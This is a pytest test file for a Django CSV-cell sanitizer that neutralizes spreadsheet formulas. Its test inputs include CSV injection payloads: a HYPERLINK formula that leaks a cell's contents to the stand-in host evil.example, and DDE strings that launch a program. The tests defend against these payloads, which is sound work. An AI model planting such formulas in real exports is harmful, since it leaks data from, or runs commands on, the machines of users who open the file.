"""The one place CSV cells are made safe (govcx.core.csvcells): formulas neutralized, numbers
left alone, text that UTF-8 cannot encode replaced instead of stopping the file."""

import csv
import io
from datetime import date
from decimal import Decimal

import pytest
from django.utils.functional import lazy

from govcx.core.csvcells import cell_writer, csv_cell

ATTACKS = [
    '=HYPERLINK("http://evil.example/?x="&A1,"x")',
    "+cmd|' /C calc'!A0",
    "@SUM(1+1)",
    "-2+3+cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "-",
    "+1 202 555 0143",
]


@pytest.mark.parametrize("text", ATTACKS)
def test_formula_like_text_gets_a_leading_quote(text: str) -> None:
    assert csv_cell(text) == "'" + text


@pytest.mark.parametrize(
    "value", [-2, 3.5, Decimal("-0.25"), "-2", "-0.5", "+7", "1e5", "-1.5E-3", ".5", "", None]
)
def test_numbers_and_empty_cells_are_left_alone(value: object) -> None:
    assert csv_cell(value) == value


@pytest.mark.parametrize(
    "text", ["plain", "a = b", "1+1", "email@example.gov", "Él dijo: =no", "🙂 =1", "'quoted"]
)
def test_text_that_does_not_start_a_formula_is_unchanged(text: str) -> None:
    assert csv_cell(text) == text


def test_other_values_are_written_as_their_text() -> None:
    assert csv_cell(date(2026, 1, 2)) == "2026-01-02"
    assert csv_cell(lazy(lambda: "=1+1", str)()) == "'=1+1"


def test_lone_surrogates_become_replacement_characters() -> None:
    assert csv_cell("bad \ud800 text") == "bad \ufffd text"
    assert csv_cell("=\udfff") == "'=\ufffd"
    assert csv_cell("emoji 🙂 kept") == "emoji 🙂 kept"


def test_the_writer_writes_rows_that_read_back() -> None:
    buffer = io.StringIO()
    writer = cell_writer(buffer)
    writer.writerow(["=1+1", -2, "-2", 'say "hi"\nbye'])
    writer.writerows([["@x", "\ud800"]])
    buffer.getvalue().encode("utf-8")  # nothing unencodable left
    assert list(csv.reader(io.StringIO(buffer.getvalue()))) == [
        ["'=1+1", "-2", "-2", 'say "hi"\nbye'],
        ["'@x", "\ufffd"],
    ]
